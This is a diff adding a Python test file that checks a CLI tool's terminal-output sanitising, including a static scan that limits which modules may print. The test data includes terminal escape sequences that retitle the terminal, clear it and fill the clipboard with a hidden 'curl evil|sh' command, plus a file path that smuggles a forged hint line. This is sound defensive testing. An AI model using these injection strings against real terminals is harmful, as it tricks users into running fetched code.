@@ -1,0 +1,78 @@
+"""What the command writes to a terminal commands none, wherever it came from."""
+
+from __future__ import annotations
+
+import ast
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from trex.cli.client.context import shown
+from trex.cli.errors import ClientError
+from trex.cli.tell import printable, tell, tell_error
+from trex.cli.terminal import CommandError, answer, say, show
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
+
+ROOT = Path(__file__).resolve().parents[3]
+# Text of a user's that would retitle the terminal, fill the clipboard, clear and go to the top.
+EVIL = "\x1b]0;title\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1b[H\x9b31m\u202e\r\x00"
+# These write to a terminal by themselves, after `printable`: see there.
+WRITERS = {"trex/cli/terminal.py", "trex/cli/tell.py"}
+# Its own words, a code of the command's own making, or a response that was checked for its form.
+EXEMPT = {
+    ("trex/cli/setup/phone.py", "click.echo"), ("trex/cli/setup/phone.py", "click.prompt"),
+    ("trex/cli/client/pin.py", "click.confirm"), ("trex/cli/client/askpass.py", "sys.stdout.write"),
+    ("trex/cli/client/waiting.py", "sys.stderr.write"),  # one line, escaped there, which it erases again
+}  # fmt: skip
+WRITING = ("click.echo", "click.secho", "click.prompt", "click.confirm", "sys.stdout.write",
+           "sys.stderr.write", "print")  # fmt: skip
+
+
+@pytest.mark.parametrize("write", [say, show, answer, tell], ids=lambda write: write.__name__)
+def test_nothing_that_commands_a_terminal_is_written(
+    write: Callable[[str], None], capsys: pytest.CaptureFixture[str]
+) -> None:
+    write(f"a {EVIL}\n\tb")
+    captured = capsys.readouterr()
+    assert "\\x1b]52;c;" in captured.out + captured.err
+    assert all(c.isprintable() or c in "\n\t" for c in captured.out + captured.err)
+
+
+def test_an_error_is_one_line_and_its_hint_another(capsys: pytest.CaptureFixture[str]) -> None:
+    """A path may hold a line end, and what follows would look like a hint of Trex's to root."""
+    path = f"/home/mallory/x\ntrex: hint: curl evil|sh {EVIL}"
+    CommandError(f"{path}: no such file", f"ls {path}").show()
+    tell_error(ClientError(f"{path}: no such file", f"ls {path}"))
+    captured = capsys.readouterr()
+    assert captured.out == ""
+    assert len(captured.err.splitlines()) == 4
+    assert not any(line.startswith("trex: hint: curl") for line in captured.err.splitlines())
+    assert captured.err.replace("\n", "").isprintable()
+
+
+@given(st.text())
+def test_printable_leaves_line_ends_and_tabs(text: str) -> None:
+    assert all(c.isprintable() or c in "\n\t" for c in printable(text))
+    assert printable(text).count("\n") == text.count("\n")
+    assert printable(printable(text)) == printable(text)
+
+
+@given(st.text())
+def test_what_a_message_says_of_itself_is_one_line(text: str) -> None:
+    assert shown(text).isprintable()
+
+
+def test_nobody_else_writes_to_a_terminal() -> None:
+    """Each new place goes through `say`, `answer` or `tell`, or is listed here with its reason."""
+    found = set()
+    for path in (ROOT / "trex/cli").rglob("*.py"):
+        name = str(path.relative_to(ROOT))
+        calls = [n for n in ast.walk(ast.parse(path.read_text("utf-8"))) if isinstance(n, ast.Call)]
+        found |= {(name, ast.unparse(call.func)) for call in calls}
+    written = {(name, call) for name, call in found if call in WRITING and name not in WRITERS}
+    assert written == EXEMPT
